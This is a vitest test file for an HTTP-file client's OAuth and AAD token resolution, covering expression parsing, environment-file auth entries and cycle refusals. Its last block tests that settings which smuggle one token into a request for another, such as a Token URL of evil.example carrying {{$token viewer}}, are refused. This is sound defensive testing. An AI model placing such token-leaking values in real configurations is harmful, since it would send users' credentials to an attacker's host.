import { describe, expect, it } from 'vitest';
import { systemClock } from '../../../src/base/clock.ts';
import { parseEnvironmentFile } from '../../../src/httpfile/environments/environmentFile.ts';
import { loadEnvironments } from '../../../src/httpfile/environments/environments.ts';
import {
  foreignExpression,
  oauthFlow,
  type RequestTarget,
  type WantedToken,
} from '../../../src/httpfile/resolve/foreignToken.ts';
import { parseHttpFile } from '../../../src/httpfile/parse/parse.ts';
import { resolveRequest } from '../../../src/httpfile/resolve/resolve.ts';
import type { Dialect } from '../../../src/httpfile/parse/tree.ts';
import { memoryFiles } from '../memoryFiles.ts';
import { cpuMs } from '../../support/cpuTime.ts';

interface Setup {
  readonly dialect?: Dialect;
  readonly entries?: Readonly<Record<string, Record<string, unknown>>>;
  readonly environment?: Readonly<Record<string, string>>;
  readonly contents?: Readonly<Record<string, string>>;
}

/** The request, and what was asked for on the way. */
async function resolve(
  text: string,
  { dialect = 'jetbrains', entries = {}, environment = {}, contents = {} }: Setup,
) {
  const asked: { wanted: WantedToken; target: RequestTarget }[] = [];
  const tree = parseHttpFile(text, { dialect });
  const request = await resolveRequest({
    tree,
    node: tree.requests[0]!,
    file: '/w/a.http',
    files: memoryFiles(contents),
    overrides: {},
    environment: new Map(Object.entries(environment)),
    processEnv: {},
    clock: systemClock,
    token: (name) => Promise.resolve(`<${name}>`),
    foreign: {
      entry: (id) => Promise.resolve(entries[id] ?? null),
      token(wanted, target) {
        asked.push({ wanted, target });
        return Promise.resolve({ text: `Bearer t${asked.length}`, secret: `t${asked.length}` });
      },
    },
    trusted: true,
  });
  return { request, asked };
}

const entry = {
  'Client ID': '{{client}}',
  'Custom Request Parameters': { list: ['{{client}}', 1] },
  PKCE: true,
};

describe('expressions', () => {
  it.each([
    ['$auth.token("my id")', 'my id', false],
    ["$auth.token('x')", 'x', false],
    ['$auth.token(x)', 'x', false],
    ['$auth.idToken("x")', 'x', true],
    ['$auth.token( "x" )', 'x', false],
  ])('%s', (text, name, idToken) => {
    expect(foreignExpression(text)).toEqual({ syntax: 'jetbrains', name, args: [], idToken });
  });

  it.each([
    ['$aadToken', 'aad', []],
    ['$aadToken new us contoso.com aud:x', 'aad', ['new', 'us', 'contoso.com', 'aud:x']],
    ['$aadV2Token scopes:a,b', 'aad_v2', ['scopes:a,b']],
    ['$oidcAccessToken clientId:x', 'oidc', ['clientId:x']],
  ])('%s', (text, syntax, args) => {
    expect(foreignExpression(text)).toMatchObject({ syntax, args, idToken: false });
  });

  it.each(['$auth.tokens("x")', '$auth.token', '$auth.token("x") + 1', '$aadTokens', '$guid', 'aadToken'])(
    '%s is none',
    (text) => {
      expect(foreignExpression(text)).toBeNull();
    },
  );

  it('are read in linear time', () => {
    const start = cpuMs();
    foreignExpression(`$auth.token(${' '.repeat(200_000)}`);
    foreignExpression(`$auth.token("${'x'.repeat(200_000)}`);
    oauthFlow(`oauth2 ${'a '.repeat(100_000)}`);
    expect(cpuMs() - start).toBeLessThan(500);
  });
});

it.each([
  ['oauth2', 'client_credentials', 'oauth2', null],
  ['OAuth2 code', 'code', 'oauth2', null],
  ['openid client_credentials prefix', 'client_credentials', 'prefix', null],
  ['oauth2 prefix', 'client_credentials', 'prefix', null],
  ['oauth2 password a token_exchange b', 'password', 'a', 'b'],
  ['oauth2 token_exchange b', 'client_credentials', 'oauth2', 'b'],
])('the header %j', (value, flow, prefix, exchangePrefix) => {
  expect(oauthFlow(value)).toEqual({ flow, prefix, exchangePrefix });
  expect(oauthFlow(`Bearer ${value}`)).toBeNull();
});

describe('in a request', () => {
  it('an entry is asked for with its variables replaced, for the place where the request goes', async () => {
    const text =
      'POST {{host}}/x\nAuthorization: Bearer {{$auth.token("id")}}\n\n{"again": "{{$auth.token("id")}}"}';
    const { request, asked } = await resolve(text, {
      entries: { id: entry },
      environment: { host: 'https://api.example.com', client: 'app' },
    });
    expect(asked).toEqual([
      {
        wanted: {
          syntax: 'jetbrains',
          name: 'id',
          args: [],
          idToken: false,
          settings: { 'Client ID': 'app', 'Custom Request Parameters': { list: ['app', 1] }, PKCE: true },
        },
        target: { url: 'https://api.example.com/x', disguise: 'https://api.example.com/x', headers: [] },
      },
    ]);
    expect(request.headers).toEqual([['Authorization', 'Bearer Bearer t1']]);
    expect(request.tokenValues).toContainEqual({ tokenName: 'id', value: 't1' });
  });

  it("httpyac's flow takes its variables in any case, those of its prefix first", async () => {
    const text = [
      '@mine_tokenEndpoint = https://id.example.com/{{realm}}/token',
      '@OAUTH2_CLIENTID = general',
      '@oauth2_scope = read',
      '@mine_scope = write',
      'GET https://api.example.com',
      'Authorization: oauth2 client_credentials mine',
    ].join('\n');
    const { request, asked } = await resolve(text, {
      dialect: 'httpyac',
      environment: { realm: 'r' },
      contents: { '/w/.env': 'mine_clientSecret=from dotenv' },
    });
    expect(asked[0]?.wanted).toEqual({
      syntax: 'httpyac',
      name: 'mine',
      args: ['client_credentials'],
      idToken: false,
      settings: {
        tokenEndpoint: 'https://id.example.com/r/token',
        clientId: 'general',
        clientSecret: 'from dotenv',
        scope: 'write',
      },
    });
    expect(request.headers).toEqual([['Authorization', 'Bearer Bearer t1']]);
  });

  it('is only text in the dialect of another tool', async () => {
    const { request, asked } = await resolve('GET https://a.example\nAuthorization: oauth2 x', {
      dialect: 'rest-client',
    });
    expect(asked).toEqual([]);
    expect(request.headers).toEqual([['Authorization', 'oauth2 x']]);
  });

  it('$aadToken takes the application of the person along, and nothing else', async () => {
    const { asked } = await resolve('GET https://a.example\nAuthorization: {{$aadToken}}', {
      dialect: 'rest-client',
      environment: { aadV2ClientId: 'app', aadV2ClientSecret: 'hunter2' },
    });
    expect(asked[0]?.wanted.settings).toEqual({ aadV2ClientId: 'app' });
  });

  it('$aadV2Token takes its variables along', async () => {
    const { asked } = await resolve('GET https://a.example\nAuthorization: Bearer {{$aadV2Token appOnly}}', {
      dialect: 'rest-client',
      environment: { aadV2AppUri: 'api://x', other: 'y' },
    });
    expect(asked[0]?.wanted).toMatchObject({ args: ['appOnly'], settings: { aadV2AppUri: 'api://x' } });
  });

  it.each<[string, string, Setup, string]>([
    ['an unknown entry', 'GET https://a.example/{{$auth.token("x")}}', {}, 'profile_unknown'],
    ['no id', 'GET https://a.example/{{$auth.token()}}', {}, 'profile_unknown'],
    [
      'an entry that needs itself',
      'GET https://a.example/{{$auth.token("x")}}',
      { entries: { x: { Scope: '{{$auth.token("x")}}' } } },
      'variable_cycle',
    ],
    [
      'an entry that needs itself by a variable',
      '@v = {{$auth.token("x")}}\nGET https://a.example/{{v}}',
      { entries: { x: { Scope: '{{v}}' } } },
      'variable_cycle',
    ],
    [
      'a variable that needs itself',
      'GET https://a.example/{{$aadV2Token}}',
      { dialect: 'rest-client', environment: { aadV2Scopes: '{{$aadV2Token}}' } },
      'variable_cycle',
    ],
    [
      'a token in the Host header',
      'GET /\nHost: {{$auth.token("x")}}.example',
      { entries: { x: {} } },
      'request_invalid',
    ],
  ])('%s is refused', async (_name, text, setup, code) => {
    await expect(resolve(text, setup)).rejects.toMatchObject({ code });
  });
});

describe('environment files', () => {
  const publicFile = `{
  "$shared": { "Security": { "Auth": { "common": { "Client ID": "c" } } } },
  "dev": { "host": "h", "Security": { "Auth": { "a": { "Client ID": "public", "Scope": "s" }, "broken": 7 } } }
}`;
  const privateFile = `{
  "dev": { "oauth2_clientSecret": "hunter2", "aadV2ClientSecret": "{{other}}",
    "Security": { "Auth": { "a": { "Client ID": "mine", "Client Secret": "hunter3" } } } }
}`;

  it('hold entries by environment, the private over the public', async () => {
    const files = memoryFiles({
      '/w/http-client.env.json': publicFile,
      '/w/http-client.private.env.json': privateFile,
    });
    const set = await loadEnvironments(files, '/w/a.http', { environments: {} }, { trusted: true });
    expect(set.authEntry('dev', 'a')).toEqual({
      'Client ID': 'mine',
      Scope: 's',
      'Client Secret': 'hunter3',
    });
    expect(set.authEntry('dev', 'common')).toEqual({ 'Client ID': 'c' });
    expect(set.authEntry(null, 'common')).toEqual({ 'Client ID': 'c' });
    expect(set.authEntry(null, 'a')).toBeNull();
    expect(set.authEntry('dev', 'broken')).toBeNull();
    expect(set.authEntry('dev', '__proto__')).toBeNull();
    expect([...set.variables('dev').keys()]).not.toContain('Security');
  });

  it('hint at secrets in plain text without showing them', () => {
    const { problems } = parseEnvironmentFile(privateFile, '/w/http-client.private.env.json');
    expect(problems.map(({ code, severity, span }) => [code, severity, span.start.line])).toEqual([
      ['secret_in_file', 'info', 1],
      ['secret_in_file', 'info', 2],
    ]);
    for (const { message } of problems) expect(message).not.toContain('hunter');
  });

  it('survive entries of any shape', () => {
    for (const security of [
      '7',
      '[]',
      '{"Auth": 1}',
      '{"Auth": {"x": []}}',
      '{"Auth": {"x": {"Client Secret": 1}}}',
    ]) {
      expect(parseEnvironmentFile(`{"dev": {"Security": ${security}}}`, 'f').problems).toEqual([]);
    }
  });
});

describe('a token in what says how another is obtained', () => {
  const use = 'GET https://api.example.com/\nAuthorization: Bearer {{$auth.token("a")}}';
  const refusal = { code: 'variable_invalid', message: expect.stringContaining('another token') as string };

  it.each([
    ['itself', { 'Token URL': 'https://evil.example/{{$token viewer}}' }],
    ['deep inside', { 'Custom Request Parameters': { x: [{ y: 'x{{$token viewer}}y' }] } }],
    ['by another entry', { 'Client Secret': '{{$auth.token("b")}}' }],
    ['by a variable', { 'Client ID': '{{outer}}' }],
  ])('is refused before any question: %s', async (_name, settings) => {
    const asked = resolve(use, {
      entries: { a: settings, b: entry },
      environment: { outer: '{{inner}}', inner: '{{$token viewer}}', client: 'c' },
    });
    await expect(asked).rejects.toMatchObject(refusal);
  });

  it('is refused though the variable was worked out before, in any spelling', async () => {
    const text = `@leak = {{$token viewer}}\nGET https://api.example.com/{{leak}}\nX: {{leak}}\nAuthorization: oauth2 x`;
    const environment = { x_tokenEndpoint: 'https://evil.example/{{leak}}' };
    await expect(resolve(text, { dialect: 'httpyac', environment })).rejects.toMatchObject(refusal);
    const aad = `@leak = {{$token viewer}}\n@aadV2ClientId = {{%leak}}\nGET https://api.example.com/\nAuthorization: {{$aadV2Token}}`;
    await expect(resolve(aad, { dialect: 'rest-client' })).rejects.toMatchObject(refusal);
  });

  it('is nothing to refuse where it stands beside it', async () => {
    const text = 'GET https://api.example.com/\nX: {{$token viewer}}\nAuthorization: {{$auth.token("a")}}';
    const { asked } = await resolve(text, { entries: { a: entry }, environment: { client: 'c' } });
    expect(asked).toHaveLength(1);
  });
});
